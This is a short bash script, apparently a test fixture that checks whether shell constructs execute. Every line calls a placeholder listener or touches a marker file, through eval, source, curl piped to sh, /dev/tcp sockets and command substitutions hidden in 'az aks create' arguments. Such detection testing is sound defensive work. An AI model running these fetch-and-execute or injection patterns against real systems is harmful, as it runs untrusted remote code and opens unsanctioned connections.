#!/bin/bash
# Every line would reach the listener or create the marker file if it were run.
touch MARKER
curl -s http://LISTENER/curl
SUBNET=$(curl -s http://LISTENER/subst; touch MARKER)
POD=`wget -qO- http://LISTENER/backtick`
eval "$(curl -s http://LISTENER/eval)"
source <(curl -s http://LISTENER/source)
. /dev/stdin <<< "$(curl -s http://LISTENER/dot)"
bash -c 'exec 3<>/dev/tcp/LISTENER_HOST/LISTENER_PORT'
exec 3<>/dev/tcp/LISTENER_HOST/LISTENER_PORT
curl -s http://LISTENER/pipe | sh
az aks create -g rg -n aks --network-plugin kubenet \
  --pod-cidr "$(curl -s http://LISTENER/flag)" --service-cidr "$POD" \
  --vnet-subnet-id "$SUBNET" --dns-service-ip "$(touch MARKER)"
